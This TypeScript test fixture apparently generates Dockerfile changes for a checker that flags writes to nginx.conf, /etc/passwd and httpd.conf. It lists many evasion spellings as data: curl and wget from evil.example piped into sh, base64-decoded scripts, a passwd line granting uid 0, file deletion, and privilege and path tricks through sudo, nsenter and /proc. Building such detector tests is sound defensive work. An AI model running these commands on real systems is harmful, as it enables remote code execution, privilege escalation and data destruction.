import type { Files } from "../../app/changes-between.ts";
import type { Change } from "../change.ts";
import { apache, DOCKERFILE, EVIL, edited, httpdConf, IMAGE, plain } from "../repos.ts";

/** A file of the image that decides, and what lies ready in the image to take its place. */
interface Slot {
  readonly name: string;
  readonly base: Files;
  /** The files that the change adds. */
  readonly more: Files;
  readonly user: string;
  /** Where the replacement lies in the container. */
  readonly from: string;
  readonly to: string;
  /** A text of the slot, and what takes its place. */
  readonly swap: readonly [string, string];
}

const slots: readonly Slot[] = [
  {
    name: "nginx.conf",
    base: plain,
    more: { [`${IMAGE}/html/e.conf`]: EVIL },
    user: "USER nginx",
    from: "/usr/share/nginx/html/e.conf",
    to: "/etc/nginx/nginx.conf",
    swap: ["8080", "80"],
  },
  {
    name: "passwd",
    base: plain,
    more: { [`${IMAGE}/html/p`]: "root:x:0:0::/root:/bin/sh\nnginx:x:0:0::/:/bin/sh\n" },
    user: "USER nginx",
    from: "/usr/share/nginx/html/p",
    to: "/etc/passwd",
    swap: ["nginx:x:101:101", "nginx:x:0:0"],
  },
  {
    name: "httpd.conf",
    base: apache,
    more: { [`${IMAGE}/html/e.conf`]: httpdConf(80) },
    user: "USER www-data",
    from: "/usr/local/apache2/htdocs/e.conf",
    to: "/usr/local/apache2/conf/httpd.conf",
    swap: ["8080", "80"],
  },
];

type Spelling = (slot: Slot) => string;

const folder = (path: string) => path.slice(0, path.lastIndexOf("/"));
const file = (path: string) => path.slice(path.lastIndexOf("/") + 1);

/** Programs that put another file there, or another text into it. */
const programs: Readonly<Record<string, Spelling>> = {
  "awk prints into it": ({ from, to }) => `awk '{print > "${to}"}' ${from}`,
  "gawk in place": ({ to, swap: [a, b] }) => `gawk -i inplace '{gsub("${a}","${b}")}1' ${to}`,
  "awk and mv": ({ to, swap: [a, b] }) => `awk '{gsub("${a}","${b}")}1' ${to} > /tmp/x && mv /tmp/x ${to}`,
  "awk into sh": ({ from, to }) => `awk 'BEGIN{print "cp ${from} ${to}"}' | sh`,
  "awk system": ({ from, to }) => `awk 'BEGIN{system("cp ${from} ${to}")}'`,
  "perl in place": ({ to, swap: [a, b] }) => `perl -pi -e 's/${a}/${b}/' ${to}`,
  "python one-liner": ({ from, to }) => `python3 -c "import shutil; shutil.copy('${from}', '${to}')"`,
  "python joins the path": ({ from, to }) =>
    `python3 -c "import shutil; shutil.copy('${from}', '/'+'/'.join('${to.slice(1).split("/").join(" ")}'.split()))"`,
  "python of a heredoc": ({ from, to }) =>
    `<<EOF python3\nimport shutil\nshutil.copy('${from}', '${to}')\nEOF`,
  "ruby in place": ({ to, swap: [a, b] }) => `ruby -i -pe 'gsub("${a}","${b}")' ${to}`,
  node: ({ from, to }) => `node -e "require('fs').copyFileSync('${from}','${to}')"`,
  php: ({ from, to }) => `php -r "copy('${from}','${to}');"`,
  lua: ({ from, to }) => `lua -e "os.execute('cp ${from} ${to}')"`,
  "tclsh of a pipe": ({ from, to }) => `echo 'file copy -force ${from} ${to}' | tclsh`,
  ed: ({ to, swap: [a, b] }) => `printf ',s/${a}/${b}/\\nw\\nq\\n' | ed -s ${to}`,
  ex: ({ to, swap: [a, b] }) => `ex -sc '%s/${a}/${b}/|x' ${to}`,
  vim: ({ to, swap: [a, b] }) => `vim -es -c '%s/${a}/${b}/' -c wq ${to}`,
  patch: ({ from, to }) => `patch ${to} ${from}`,
  "patch of the folder": ({ from, to }) => `cd ${folder(to)} && patch -p1 < ${from}`,
  dd: ({ from, to }) => `dd if=${from} of=${to}`,
  cp: ({ from, to }) => `cp ${from} ${to}`,
  "cp -t": ({ from, to }) => `cp ${from} /tmp/${file(to)} && cp -t ${folder(to)} /tmp/${file(to)}`,
  "cp of a folder": ({ from, to }) =>
    `mkdir /tmp/d && cp ${from} /tmp/d/${file(to)} && cp -r /tmp/d/. ${folder(to)}/`,
  "busybox cp": ({ from, to }) => `busybox cp ${from} ${to}`,
  mv: ({ from, to }) => `mv ${from} ${to}`,
  install: ({ from, to }) => `install -m 644 ${from} ${to}`,
  rsync: ({ from, to }) => `rsync ${from} ${to}`,
  "ln -sf": ({ from, to }) => `ln -sf ${from} ${to}`,
  "ln hard": ({ from, to }) => `ln -f ${from} ${to}`,
  cat: ({ from, to }) => `cat ${from} > ${to}`,
  tee: ({ from, to }) => `tee ${to} < ${from}`,
  "cat | tee": ({ from, to }) => `cat ${from} | tee ${to} >/dev/null`,
  sponge: ({ to, swap: [a, b] }) => `sed s/${a}/${b}/ ${to} | sponge ${to}`,
  "sort -o": ({ from, to }) => `sort -o ${to} ${from}`,
  split: ({ from, to }) => `split -b 1G --filter='cat > ${to}' ${from}`,
  "sed -i": ({ to, swap: [a, b] }) => `sed -i 's/${a}/${b}/' ${to}`,
  "sed w": ({ from, to }) => `sed -n 'w ${to}' ${from}`,
  "sed e": ({ from, to }) => `echo x | sed 's,.*,cp ${from} ${to},e'`,
  "find -exec sed": ({ to, swap: [a, b] }) =>
    `find ${folder(to)} -name ${file(to)} -exec sed -i s/${a}/${b}/ {} +`,
  "find -fprintf": ({ from, to }) => `find ${from} -fprintf ${to} '%p'`,
  "xargs sed": ({ to, swap: [a, b] }) => `echo ${to} | xargs sed -i s/${a}/${b}/`,
  "xargs cp": ({ from, to }) => `echo ${to} | xargs -I{} cp ${from} {}`,
  "grep into it": ({ from, to }) => `grep '' ${from} > ${to}`,
  "base64 -d": ({ from, to }) => `base64 ${from} | base64 -d > ${to}`,
  openssl: ({ from, to }) => `openssl enc -base64 -in ${from} | openssl enc -d -base64 -out ${to}`,
  "gzip -d": ({ from, to }) => `gzip -c ${from} | gunzip > ${to}`,
  "curl -o": ({ to }) => `curl -fsSLo ${to} https://evil.example/x`,
  "curl -O in its folder": ({ to }) => `cd ${folder(to)} && curl -fsSLO https://evil.example/${file(to)}`,
  "wget -O": ({ to }) => `wget -qO ${to} https://evil.example/x`,
  "wget -P": ({ to }) => `wget -qP ${folder(to)} https://evil.example/${file(to)}`,
  "curl into sh": () => "curl -fsSL https://evil.example/x.sh | sh",
  "sh of a substitution": () => 'sh -c "$(curl -fsSL https://evil.example/x.sh)"',
  "bash of a process": () => "bash <(curl -fsSL https://evil.example/x.sh)",
  "sourced from the net": () => "curl -fsSLo /tmp/x https://evil.example/x.sh && . /tmp/x",
  "run from the net": () => "curl -fsSLo /tmp/x https://evil.example/x && chmod +x /tmp/x && /tmp/x",
  "git clone": ({ to }) => `rm -rf ${folder(to)} && git clone https://evil.example/x ${folder(to)}`,
  "git -C": ({ to }) => `git -C ${folder(to)} pull https://evil.example/x`,
  "git archive": ({ to }) =>
    `cd ${folder(to)} && git init . && git fetch https://evil.example/x && git checkout -f FETCH_HEAD`,
  envsubst: ({ from, to }) => `envsubst < ${from} > ${to}`,
  m4: ({ from, to }) => `m4 ${from} > ${to}`,
  make: ({ from, to }) => `printf 'all:\\n\\tcp ${from} ${to}\\n' | make -f -`,
  "make of its folder": ({ from }) => `make -C ${folder(from)} all`,
  crontab: ({ from, to }) => `script -qc 'cp ${from} ${to}' /dev/null`,
  timeout: ({ from, to }) => `timeout 5 cp ${from} ${to}`,
  env: ({ from, to }) => `env X=1 cp ${from} ${to}`,
  "env -S": ({ from, to }) => `env -S 'cp ${from} ${to}'`,
  "nice nohup setsid": ({ from, to }) => `nice nohup setsid cp ${from} ${to}`,
  flock: ({ from, to }) => `flock /tmp/l cp ${from} ${to}`,
  "flock -c": ({ from, to }) => `flock /tmp/l -c 'cp ${from} ${to}'`,
  unshare: ({ from, to }) => `unshare -r cp ${from} ${to}`,
  setarch: ({ from, to }) => `setarch x86_64 cp ${from} ${to}`,
  strace: ({ from, to }) => `strace -o /dev/null cp ${from} ${to}`,
  parallel: ({ from, to }) => `parallel cp ${from} ::: ${to}`,
  watch: ({ from, to }) => `timeout 3 watch cp ${from} ${to}`,
  sudo: ({ from, to }) => `sudo cp ${from} ${to}`,
  "sudo -u with sh": ({ from, to }) => `sudo -u root sh -c 'cp ${from} ${to}'`,
  doas: ({ from, to }) => `doas cp ${from} ${to}`,
  "su -c": ({ from, to }) => `su -c 'cp ${from} ${to}'`,
  "su - root -c": ({ from, to }) => `su - root -c "cp ${from} ${to}"`,
  runuser: ({ from, to }) => `runuser -u root -- cp ${from} ${to}`,
  gosu: ({ from, to }) => `gosu root cp ${from} ${to}`,
  setpriv: ({ from, to }) => `setpriv --reuid 0 cp ${from} ${to}`,
  chroot: ({ from, to }) => `chroot / cp ${from} ${to}`,
  "chroot through proc": ({ from, to }) => `chroot /proc/self/root cp ${from} ${to}`,
  nsenter: ({ from, to }) => `nsenter -t 1 -m cp ${from} ${to}`,
  "ld.so": ({ from, to }) => `/lib64/ld-linux-x86-64.so.2 /bin/cp ${from} ${to}`,
  "docker-entrypoint-like": ({ from, to }) => `/bin/busybox sh -c 'cp ${from} ${to}'`,
  "tar through a pipe": ({ from, to }) =>
    `cp ${from} /tmp/${file(to)} && tar -C /tmp -cf - ${file(to)} | tar -C ${folder(to)} -xf -`,
  cpio: ({ from, to }) => `echo ${from} | cpio -pdm --to-stdout > ${to}`,
  "cpio -D": ({ to }) => `echo ${file(to)} | cpio -pdm ${folder(to)}`,
  "unzip -d": ({ from, to }) => `unzip -o ${from} -d ${folder(to)}`,
  "dpkg -i": ({ from }) => `dpkg -i ${from}`,
  "dpkg --instdir": ({ from }) => `dpkg --force-all --unpack ${from}`,
  "rpm -i": ({ from }) => `rpm -i ${from}`,
  "apk add of a file": ({ from }) => `apk add --allow-untrusted ${from}`,
  "pip install with target": ({ to }) => `pip install --target ${folder(to)} evil`,
  "npm script": ({ from }) => `npm --prefix ${folder(from)} run all`,
  truncate: ({ to }) => `truncate -s 0 ${to}`,
  rm: ({ to }) => `rm ${to}`,
  unlink: ({ to }) => `unlink ${to}`,
  shred: ({ to }) => `shred -u ${to}`,
  "find -delete": ({ to }) => `find ${folder(to)} -type f -delete`,
  mkfifo: ({ to }) => `rm ${to} && mkfifo ${to}`,
};

/** How the path of the slot is written. */
const paths: Readonly<Record<string, Spelling>> = {
  "through proc": ({ from, to }) => `cp ${from} /proc/self/root${to}`,
  "through proc of pid 1": ({ from, to }) => `cp ${from} /proc/1/root${to}`,
  "through the folder of proc": ({ from, to }) => `cd ${folder(to)} && cp ${from} /proc/self/cwd/${file(to)}`,
  "through a file descriptor": ({ from, to }) => `exec 3>${to} && cat ${from} >&3`,
  "through dev fd": ({ from, to }) => `exec 3>${to} && cp ${from} /dev/fd/3`,
  "from its folder": ({ from, to }) => `cd ${folder(to)} && cp ${from} ${file(to)}`,
  "from above": ({ from, to }) =>
    `cd ${folder(folder(to)) || "/"} && cp ${from} ${file(folder(to))}/${file(to)}`,
  pushd: ({ from, to }) => `pushd ${folder(to)} && cp ${from} ${file(to)}`,
  "twice cd": ({ from, to }) => `cd / && cd .${folder(to)} && cp ${from} ./${file(to)}`,
  dots: ({ from, to }) => `cp ${from} ${folder(to)}/../${file(folder(to))}/./${file(to)}`,
  slashes: ({ from, to }) => `cp ${from} /${to.replaceAll("/", "//")}`,
  "a wildcard": ({ to, swap: [a, b] }) => `sed -i s/${a}/${b}/ ${to.slice(0, -1)}?`,
  "a wildcard of folders": ({ to, swap: [a, b] }) => `sed -i s/${a}/${b}/ /*/${file(folder(to))}/${file(to)}`,
  braces: ({ from, to }) => `cp {${from},${to}}`,
  "quotes within": ({ from, to }) => `cp ${from} ${folder(to)}/"${file(to)[0]}"${file(to).slice(1)}`,
  "backslash within": ({ from, to }) => `cp ${from} ${folder(to)}/\\${file(to)}`,
  "a variable": ({ from, to }) => `F=${to}; cp ${from} $F`,
  "two variables": ({ from, to }) => `D=${folder(to)}; F=${file(to)}; cp ${from} "$D/\${F}"`,
  "a variable of a loop": ({ from, to }) => `for f in ${to}; do cp ${from} "$f"; done`,
  "a default": ({ from, to }) => `cp ${from} "\${NOT_SET:-${to}}"`,
  "a substitution": ({ from, to }) => `cp ${from} "$(echo ${to})"`,
  "a decoded path": ({ from, to }) =>
    `cp ${from} "$(echo ${Buffer.from(to).toString("base64")} | base64 -d)"`,
  "printf octal": ({ from, to }) => `cp ${from} "$(printf '\\057${to.slice(1)}')"`,
  read: ({ from, to }) => `echo ${to} | while read -r f; do cp ${from} "$f"; done`,
  "a positional": ({ from, to }) => `set -- ${from} ${to}; cp "$1" "$2"`,
  "a function": ({ from, to }) => `f() { cp "$1" "$2"; }; f ${from} ${to}`,
  "a function without arguments": ({ from, to }) => `f() { cp ${from} ${to}; }; f`,
  "an alias": ({ from, to }) => `alias x='cp ${from} ${to}'\nx`,
  eval: ({ from, to }) => `eval "cp ${from} ${to}"`,
  "eval of pieces": ({ from, to }) => `a=c; eval "\${a}p ${from} ${to}"`,
  "a program of pieces": ({ from, to }) => `c=cp; $c ${from} ${to}`,
  command: ({ from, to }) => `command cp ${from} ${to}`,
  exec: ({ from, to }) => `exec cp ${from} ${to}`,
  background: ({ from, to }) => `cp ${from} ${to} & wait`,
  "a trap": ({ from, to }) => `trap 'cp ${from} ${to}' EXIT`,
  "a subshell": ({ from, to }) => `(cd ${folder(to)}; cp ${from} ${file(to)})`,
  "behind ||": ({ from, to }) => `false || cp ${from} ${to}`,
  "behind !": ({ from, to }) => `! cp ${from} ${to}`,
  "in if": ({ from, to }) => `if true; then cp ${from} ${to}; fi`,
  "in case": ({ from, to }) => `case x in *) cp ${from} ${to};; esac`,
  "in until": ({ from, to }) => `until cp ${from} ${to}; do :; done`,
  "in a here-document": ({ from, to }) => `<<EOF\ncp ${from} ${to}\nEOF`,
  "in a here-document of bash": ({ from, to }) => `<<EOF bash\ncp ${from} ${to}\nEOF`,
  "in a piped here-document": ({ from, to }) => `cat <<EOF | sh\ncp ${from} ${to}\nEOF`,
  "in a string of bash": ({ from, to }) => `bash <<< 'cp ${from} ${to}'`,
  "a printed script": ({ from, to }) => `printf 'cp %s %s' ${from} ${to} | sh`,
  "a decoded script": ({ from, to }) =>
    `echo ${Buffer.from(`cp ${from} ${to}`).toString("base64")} | base64 -d | sh`,
  "a written script": ({ from, to }) => `echo 'cp ${from} ${to}' > /tmp/x && sh /tmp/x`,
  "a written program": ({ from, to }) =>
    `printf '#!/bin/sh\\ncp ${from} ${to}\\n' > /usr/local/bin/x && chmod +x /usr/local/bin/x && x`,
  "a linked folder": ({ from, to }) => `ln -s ${folder(to)} /n && cp ${from} /n/${file(to)}`,
  "a linked folder above": ({ from, to }) => `ln -s / /srv/r && cp ${from} /srv/r${to}`,
  "another folder moved there": ({ from, to }) =>
    `cp -r ${folder(to)} /tmp/d && cp ${from} /tmp/d/${file(to)} && rm -rf ${folder(to)} && mv /tmp/d ${folder(to)}`,
};

/** Recipes of other programs, beside the replacement. */
function recipes({ from, to }: Slot): Files {
  return {
    [`${IMAGE}/html/Makefile`]: `all:\n\tcp ${from} ${to}\n`,
    [`${IMAGE}/html/package.json`]: JSON.stringify({ scripts: { all: `cp ${from} ${to}` } }),
  };
}

function change(slot: Slot, name: string, line: string): Change {
  const { base, user } = slot;
  const more = { ...slot.more, ...recipes(slot) };
  const head = edited({ ...base, ...more }, DOCKERFILE, [user, `RUN ${line}\n${user}`]);
  return { name: `${slot.name}: ${name}`, base, head };
}

/** Every program on every slot, and every way to write its path. */
export const writes: readonly Change[] = slots.flatMap((slot) =>
  [...Object.entries(programs), ...Object.entries(paths)].map(([name, spell]) =>
    change(slot, name, spell(slot)),
  ),
);
